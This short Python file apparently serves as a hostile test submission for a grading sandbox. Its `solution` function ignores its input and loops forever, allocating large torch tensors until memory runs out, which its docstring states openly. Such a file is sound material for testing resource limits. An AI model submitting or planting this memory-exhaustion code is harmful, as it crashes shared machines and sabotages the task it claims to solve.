"""Asks torch for all memory, piece by piece."""

import torch

hoard = []


def solution(tensor):
    while True:
        hoard.append(torch.ones(1 << 22))
